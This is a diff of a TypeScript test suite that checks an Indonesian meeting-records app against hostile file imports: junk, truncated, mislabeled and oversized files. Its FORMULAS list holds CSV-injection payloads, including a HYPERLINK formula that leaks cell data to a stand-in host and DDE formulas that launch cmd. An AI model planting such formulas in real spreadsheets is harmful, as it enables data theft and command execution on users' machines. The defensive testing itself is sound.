@@ -53,29 +53,122 @@ const junk = (size: number, seed = 7) => {
 };
 
 const HEADER = 'kode,nama,singkatan,jenis\n';
-const FORMULAS = ['=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+const FORMULAS = [
+  '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+];
 
-type Case = Readonly<{ label: string; purpose: FilePurpose; name: string; bytes: () => Promise<Buffer> | Buffer; expect: 'refused' | 'previewed' | 'either' }>;
+type Case = Readonly<{
+  label: string;
+  purpose: FilePurpose;
+  name: string;
+  bytes: () => Promise<Buffer> | Buffer;
+  expect: 'refused' | 'previewed' | 'either';
+}>;
 
 const masterCases: ReadonlyArray<Case> = [
-  { label: 'truncated XLSX', purpose: 'import-master', name: 'opd.xlsx', expect: 'refused', bytes: async () => (await workbook([['kode', 'nama'], ['SETDA', 'Sekretariat']])).subarray(0, 900) },
-  { label: 'binary junk named .xlsx', purpose: 'import-master', name: 'opd.xlsx', expect: 'refused', bytes: () => junk(64 * 1024) },
-  { label: 'binary junk named .csv', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => junk(64 * 1024, 11) },
-  { label: 'only a header', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => Buffer.from(HEADER) },
-  { label: 'UTF-16 LE with BOM', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => utf16le(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`) },
-  { label: 'UTF-16 BE without BOM', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => utf16beNoBom(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`) },
+  {
+    label: 'truncated XLSX',
+    purpose: 'import-master',
+    name: 'opd.xlsx',
+    expect: 'refused',
+    bytes: async () =>
+      (
+        await workbook([
+          ['kode', 'nama'],
+          ['SETDA', 'Sekretariat'],
+        ])
+      ).subarray(0, 900),
+  },
+  {
+    label: 'binary junk named .xlsx',
+    purpose: 'import-master',
+    name: 'opd.xlsx',
+    expect: 'refused',
+    bytes: () => junk(64 * 1024),
+  },
+  {
+    label: 'binary junk named .csv',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => junk(64 * 1024, 11),
+  },
+  {
+    label: 'only a header',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => Buffer.from(HEADER),
+  },
+  {
+    label: 'UTF-16 LE with BOM',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => utf16le(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`),
+  },
+  {
+    label: 'UTF-16 BE without BOM',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => utf16beNoBom(`${HEADER}DLH,Dinas Lingkungan Hidup,DLH,dinas\n`),
+  },
   {
     label: 'mixed UTF-8 and Windows-1252 lines',
     purpose: 'import-master',
     name: 'opd.csv',
     expect: 'either',
-    bytes: () => Buffer.concat([Buffer.from(`${HEADER}DLH,Dinas Lingkungan Hidup – Bidang Pengelolaan,DLH,dinas\n`), Buffer.from([0x44, 0x50, 0x4b, 0x2c, 0x44, 0x69, 0x6e, 0x61, 0x73, 0x20, 0xe9, 0xe8, 0x2c, 0x44, 0x50, 0x4b, 0x2c, 0x64, 0x69, 0x6e, 0x61, 0x73, 0x0a])]),
+    bytes: () =>
+      Buffer.concat([
+        Buffer.from(`${HEADER}DLH,Dinas Lingkungan Hidup – Bidang Pengelolaan,DLH,dinas\n`),
+        Buffer.from([
+          0x44, 0x50, 0x4b, 0x2c, 0x44, 0x69, 0x6e, 0x61, 0x73, 0x20, 0xe9, 0xe8, 0x2c, 0x44, 0x50, 0x4b, 0x2c, 0x64,
+          0x69, 0x6e, 0x61, 0x73, 0x0a,
+        ]),
+      ]),
   },
-  { label: '200 columns', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => Buffer.from(`${Array.from({ length: 200 }, (_, i) => `kolom${i}`).join(',')}\n${Array.from({ length: 200 }, (_, i) => `nilai${i}`).join(',')}\n`) },
-  { label: 'one 2 MB line', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => Buffer.from(`${HEADER}DLH,${'Dinas '.repeat(350_000)},DLH,dinas\n`) },
-  { label: 'NUL bytes inside fields', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => Buffer.from(`${HEADER}DL\u0000H,Dinas\u0000Lingkungan,DLH,dinas\n`) },
-  { label: 'unbalanced quotes', purpose: 'import-master', name: 'opd.csv', expect: 'either', bytes: () => Buffer.from(`${HEADER}"DLH,Dinas Lingkungan Hidup,DLH,dinas\nDPK,"Dinas Perpustakaan,DPK,dinas\n`) },
-  { label: 'old .xls (OLE) renamed .xlsx', purpose: 'import-master', name: 'opd.xlsx', expect: 'refused', bytes: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), junk(4096, 3)]) },
+  {
+    label: '200 columns',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () =>
+      Buffer.from(
+        `${Array.from({ length: 200 }, (_, i) => `kolom${i}`).join(',')}\n${Array.from({ length: 200 }, (_, i) => `nilai${i}`).join(',')}\n`,
+      ),
+  },
+  {
+    label: 'one 2 MB line',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => Buffer.from(`${HEADER}DLH,${'Dinas '.repeat(350_000)},DLH,dinas\n`),
+  },
+  {
+    label: 'NUL bytes inside fields',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => Buffer.from(`${HEADER}DL\u0000H,Dinas\u0000Lingkungan,DLH,dinas\n`),
+  },
+  {
+    label: 'unbalanced quotes',
+    purpose: 'import-master',
+    name: 'opd.csv',
+    expect: 'either',
+    bytes: () => Buffer.from(`${HEADER}"DLH,Dinas Lingkungan Hidup,DLH,dinas\nDPK,"Dinas Perpustakaan,DPK,dinas\n`),
+  },
+  {
+    label: 'old .xls (OLE) renamed .xlsx',
+    purpose: 'import-master',
+    name: 'opd.xlsx',
+    expect: 'refused',
+    bytes: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), junk(4096, 3)]),
+  },
   {
     label: 'a zip that is not a workbook',
     purpose: 'import-master',
@@ -88,7 +181,13 @@ const masterCases: ReadonlyArray<Case> = [
     },
   },
   { label: 'zero bytes', purpose: 'import-master', name: 'opd.csv', expect: 'refused', bytes: () => Buffer.alloc(0) },
-  { label: 'a program renamed', purpose: 'import-master', name: 'opd.exe', expect: 'refused', bytes: () => Buffer.from('MZ\u0090\u0000 program') },
+  {
+    label: 'a program renamed',
+    purpose: 'import-master',
+    name: 'opd.exe',
+    expect: 'refused',
+    bytes: () => Buffer.from('MZ\u0090\u0000 program'),
+  },
   {
     label: 'semicolon CSV as Excel (id-ID) saves it',
     purpose: 'import-master',
@@ -114,7 +213,8 @@ describe('malicious imports: master data (files:upload -> import:preview-master 
     const applied = await call('import:apply-master', { fileId });
     // A file that previews with errors (or nothing to add) must not write; only clean rows may.
     const summary = preview.ok ? (preview.value as { summary: { errorRows: number; okRows: number } }).summary : null;
-    if (!applied.ok || !summary || summary.errorRows > 0 || summary.okRows === 0) expect(contentHash(world.db)).toBe(before);
+    if (!applied.ok || !summary || summary.errorRows > 0 || summary.okRows === 0)
+      expect(contentHash(world.db)).toBe(before);
   });
 
   it('a 50 MB CSV: answered within the time a user waits, nothing written unless every row is clean', async () => {
@@ -137,7 +237,8 @@ describe('malicious imports: master data (files:upload -> import:preview-master 
   }, 240_000);
 
   it('CSV formulas are kept as inert text and written to Excel as text, never as formulas', async () => {
-    const csv = HEADER + FORMULAS.map((formula, i) => `F${i},"${formula.replaceAll('"', '""')}",F${i},dinas`).join('\n') + '\n';
+    const csv =
+      HEADER + FORMULAS.map((formula, i) => `F${i},"${formula.replaceAll('"', '""')}",F${i},dinas`).join('\n') + '\n';
     const staged = await upload('import-master', 'opd-rumus.csv', Buffer.from(csv));
     expect(staged.ok).toBe(true);
     const fileId = (staged as { value: { fileId: string } }).value.fileId;
@@ -147,13 +248,24 @@ describe('malicious imports: master data (files:upload -> import:preview-master 
     for (const formula of FORMULAS) expect(previewText).toContain(JSON.stringify(formula).slice(1, -1));
     const applied = await call('import:apply-master', { fileId });
     expect(applied.ok, JSON.stringify(applied)).toBe(true);
-    const stored = world.db.prepare(`SELECT id, name FROM units WHERE code LIKE 'F%' ORDER BY code`).all() as Array<{ id: string; name: string }>;
+    const stored = world.db.prepare(`SELECT id, name FROM units WHERE code LIKE 'F%' ORDER BY code`).all() as Array<{
+      id: string;
+      name: string;
+    }>;
     expect(stored.map((unit) => unit.name)).toEqual(FORMULAS);
 
     // The request form workbook names these OPD and their open commitments: text cells, never <f>.
     const meetingId = (world.db.prepare('SELECT id FROM meetings LIMIT 1').get() as { id: MeetingId }).id;
-    for (const unit of stored) seedCommitment(world.db, meetingId, `${FORMULAS[0]} laporan`, '2026-12-10', [[unit.id as UnitId, 'BELUM']]);
-    const exported = await call('followup:request-export', { unitIds: stored.map((unit) => unit.id), letter: false, form: true, letterNumber: '', replyBy: '2026-12-15', signerPersonId: null });
+    for (const unit of stored)
+      seedCommitment(world.db, meetingId, `${FORMULAS[0]} laporan`, '2026-12-10', [[unit.id as UnitId, 'BELUM']]);
+    const exported = await call('followup:request-export', {
+      unitIds: stored.map((unit) => unit.id),
+      letter: false,
+      form: true,
+      letterNumber: '',
+      replyBy: '2026-12-15',
+      signerPersonId: null,
+    });
     expect(exported.ok, JSON.stringify(exported).slice(0, 300)).toBe(true);
     const delivery = (exported as { value: { downloadId: string } }).value;
     const files = world.ctx.files as unknown as { takeDownload: (id: string) => { bytes: Buffer } | null };
@@ -172,7 +284,9 @@ describe('malicious imports: master data (files:upload -> import:preview-master 
     const before = contentHash(world.db);
     const staged = await upload('import-master', 'opd-rumus.xlsx', Buffer.from(await book.xlsx.writeBuffer()));
     expect(staged.ok).toBe(true);
-    const preview = await call('import:preview-master', { fileId: (staged as { value: { fileId: string } }).value.fileId });
+    const preview = await call('import:preview-master', {
+      fileId: (staged as { value: { fileId: string } }).value.fileId,
+    });
     expect(JSON.stringify(preview)).not.toContain('contoh.invalid');
     expect(contentHash(world.db)).toBe(before);
   });
@@ -192,26 +306,51 @@ async function allXml(bytes: Buffer): Promise<string> {
 describe('malicious imports: follow-up reports, archives and verification', () => {
   const others: ReadonlyArray<readonly [string, FilePurpose, string, IpcChannel, () => Promise<Buffer> | Buffer]> = [
     ['junk follow-up report', 'import-followup', 'laporan.xlsx', 'followup:import-preview', () => junk(32 * 1024, 5)],
-    ['a workbook that is not the request form', 'import-followup', 'laporan.xlsx', 'followup:import-preview', () => workbook([['bukan', 'formulir'], [1, 2]], 'Lain')],
+    [
+      'a workbook that is not the request form',
+      'import-followup',
+      'laporan.xlsx',
+      'followup:import-preview',
+      () =>
+        workbook(
+          [
+            ['bukan', 'formulir'],
+            [1, 2],
+          ],
+          'Lain',
+        ),
+    ],
     ['junk archive', 'archive', 'arsip.risalah', 'backups:import-archive', () => junk(128 * 1024, 9)],
-    ['truncated archive zip', 'archive', 'arsip.risalah', 'backups:import-archive', async () => {
-      const zip = new JSZip();
-      zip.file('risalah.db', junk(8192, 2));
-      return Buffer.from(await zip.generateAsync({ type: 'uint8array' })).subarray(0, 4000);
-    }],
+    [
+      'truncated archive zip',
+      'archive',
+      'arsip.risalah',
+      'backups:import-archive',
+      async () => {
+        const zip = new JSZip();
+        zip.file('risalah.db', junk(8192, 2));
+        return Buffer.from(await zip.generateAsync({ type: 'uint8array' })).subarray(0, 4000);
+      },
+    ],
     ['junk DOCX to verify', 'verify', 'notula.docx', 'approval:verify-file', () => junk(16 * 1024, 4)],
   ];
 
-  it.each(others.map((entry) => [entry[0], entry]))('%s: clean answer, nothing written', async (_label, [, purpose, name, channel, bytes]) => {
-    const before = contentHash(world.db);
-    const staged = await upload(purpose, name, await bytes());
-    if (staged.ok) {
-      const answer = await call(channel, { fileId: (staged.value as { fileId: string }).fileId });
-      // The follow-up preview answers a foreign workbook with its file problems and no rows.
-      if (channel === 'followup:import-preview' && answer.ok) expect(answer.value).toMatchObject({ rows: [], fileProblems: [expect.any(String)] });
-      else if (channel !== 'approval:verify-file') expect(answer.ok, JSON.stringify(answer).slice(0, 300)).toBe(false);
-      if (channel === 'followup:import-preview') await call('followup:import-apply', { fileId: (staged.value as { fileId: string }).fileId });
-    }
-    expect(contentHash(world.db)).toBe(before);
-  });
+  it.each(others.map((entry) => [entry[0], entry]))(
+    '%s: clean answer, nothing written',
+    async (_label, [, purpose, name, channel, bytes]) => {
+      const before = contentHash(world.db);
+      const staged = await upload(purpose, name, await bytes());
+      if (staged.ok) {
+        const answer = await call(channel, { fileId: (staged.value as { fileId: string }).fileId });
+        // The follow-up preview answers a foreign workbook with its file problems and no rows.
+        if (channel === 'followup:import-preview' && answer.ok)
+          expect(answer.value).toMatchObject({ rows: [], fileProblems: [expect.any(String)] });
+        else if (channel !== 'approval:verify-file')
+          expect(answer.ok, JSON.stringify(answer).slice(0, 300)).toBe(false);
+        if (channel === 'followup:import-preview')
+          await call('followup:import-apply', { fileId: (staged.value as { fileId: string }).fileId });
+      }
+      expect(contentHash(world.db)).toBe(before);
+    },
+  );
 });
